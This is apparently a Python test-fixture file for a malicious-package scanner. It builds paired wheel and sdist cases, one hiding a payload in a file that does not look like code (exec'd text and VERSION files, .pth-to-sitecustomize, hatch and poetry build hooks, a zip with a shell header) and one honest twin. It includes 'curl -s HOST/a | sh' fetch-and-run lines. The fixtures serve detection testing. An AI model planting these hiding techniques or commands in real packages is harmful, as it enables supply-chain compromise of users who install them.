"""Python: code in files that nobody expects to be code, and modules that lie where nobody expects them.

What runs is decided by what Python, pip and the backends of builds do, and by no name or suffix.
"""

from tests.builders import zipped
from tests.evasions.case import HOST, PY_PAYLOAD, SETUP, Case

_HERE = "import os, sys\nh = os.path.dirname(__file__)\n"
_SHELL = f"curl -s {HOST}/a | sh\n"
_DATA = "sample-1.0.0.data"
_BACKEND = "[build-system]\nrequires = ['setuptools']\nbuild-backend = 'setuptools.build_meta'\n[project]\nname = 'sample'\n"
_DYNAMIC = _BACKEND + "dynamic = ['version']\n[tool.setuptools.dynamic]\nversion = {attr = 'tests.about.v'}\n"
_HATCH = "[build-system]\nrequires = ['hatchling']\nbuild-backend = 'hatchling.build'\n[project]\nname = 'sample'\nversion = '1.0.0'\n"
_POETRY = "[build-system]\nrequires = ['poetry-core']\nbuild-backend = 'poetry.core.masonry.api'\n[tool.poetry]\nname = 'sample'\nbuild = 'docs/notes.txt'\n"


def _pair(
    id_: str, kind: str, files: dict[str, bytes | str], path: str, bad: str, good: str
) -> tuple[Case, Case]:
    """The same package twice: with an attack in one of its files, and with what is honest there."""
    return Case(id_, kind, {**files, path: bad}), Case(id_, kind, {**files, path: good})


def _wheel(id_: str, code: str, path: str, bad: str = PY_PAYLOAD, good: str = "x = 1\n") -> tuple[Case, Case]:
    return _pair(id_, "wheel", {"parcel/__init__.py": _HERE + code}, path, bad, good)


_PAIRS = (
    _pair(
        "version-file-is-code",
        "sdist",
        {"setup.py": "ns = {}\nwith open('VERSION') as f:\n    exec(f.read(), ns)\n" + SETUP, "sample/__init__.py": ""},
        "VERSION",
        PY_PAYLOAD + "__version__ = '1.0.0'\n",
        "__version__ = '1.0.0'\n",
    ),
    _wheel("text-of-the-package-is-code", "import pkgutil\nexec(pkgutil.get_data(__package__, 'notes.txt'))\n", "parcel/notes.txt"),
    _wheel("text-is-run-as-a-program", "import subprocess\nsubprocess.call([sys.executable, os.path.join(h, 'notes.txt')])\n", "parcel/notes.txt"),
    _wheel("text-is-run-as-a-module", "from importlib.machinery import SourceFileLoader\nSourceFileLoader('n', os.path.join(h, 'notes.txt')).load_module()\n", "parcel/notes.txt"),
    _wheel("text-is-given-to-a-shell", "os.system('sh < ' + h + '/notes.txt')\n", "parcel/notes.txt", _SHELL, "echo ready\n"),
    _wheel("folder-of-tests-is-put-in-the-path", "sys.path[:0] = [os.path.join(h, 'tests')]\nimport boot\n", "parcel/tests/boot.py"),
    _wheel("folder-of-tests-is-put-in-the-package", "__path__.append(os.path.join(h, 'tests'))\nfrom . import boot\n", "parcel/tests/boot.py"),
    _wheel("test-is-asked-for-by-the-own-name", "import importlib\nimportlib.import_module(f'{__name__}.tests.boot')\n", "parcel/tests/boot.py"),
    _pair(
        "package-in-two-halves",
        "wheel",
        {"parcel/__init__.py": "from .tests import boot\n"},
        f"{_DATA}/purelib/parcel/tests/boot.py",
        PY_PAYLOAD,
        "x = 1\n",
    ),
    _pair("path-file-leads-to-a-customiser", "wheel", {"parcel/__init__.py": "", "parcel.pth": "parcel/tests\n"}, "parcel/tests/sitecustomize.py", PY_PAYLOAD, "import sys\nsys.dont_write_bytecode = True\n"),
    _pair("value-of-a-version-is-worked-out", "sdist", {"pyproject.toml": _DYNAMIC, "sample/__init__.py": ""}, "tests/about.py", PY_PAYLOAD + "v = str(1)\n", "v = '.'.join(['1', '0'])\n"),
    _pair("hook-in-a-file-of-hatch", "sdist", {"pyproject.toml": _HATCH, "hatch.toml": "[build.hooks.custom]\npath = 'tests/hook.py'\n", "sample/__init__.py": ""}, "tests/hook.py", PY_PAYLOAD, "from hatchling.builders.hooks.plugin.interface import BuildHookInterface\nclass Hook(BuildHookInterface):\n    def initialize(self, version, data):\n        data['pure_python'] = True\n"),
    _pair("build-script-is-a-text", "sdist", {"pyproject.toml": _POETRY, "sample/__init__.py": ""}, "docs/notes.txt", PY_PAYLOAD, "print('nothing to build')\n"),
)  # fmt: skip

CASES: tuple[Case, ...] = (
    *(bad for bad, _ in _PAIRS),
    Case(
        "archive-with-a-head",
        "wheel",
        {
            "parcel/__init__.py": _HERE + "sys.path.insert(0, os.path.join(h, 'grid.dat'))\nimport boot\n",
            "parcel/grid.dat": b"#!/bin/sh\nexit 0\n" + zipped({"boot.py": PY_PAYLOAD}),
        },
    ),
)
TWINS: tuple[Case, ...] = (
    *(Case(f"{good.id}-honest", good.kind, good.files) for _, good in _PAIRS),
    Case(
        "readme-beside-a-version-file",
        "sdist",
        {
            "setup.py": "exec(open('sample/_version.py').read())\ntext = open('README.md').read()\n" + SETUP,
            "README.md": f"# sample\n\n    curl -s {HOST}/install.sh | sh\n",
            "sample/_version.py": "__version__ = '1.0.0'\n",
            "sample/__init__.py": "",
        },
    ),
)
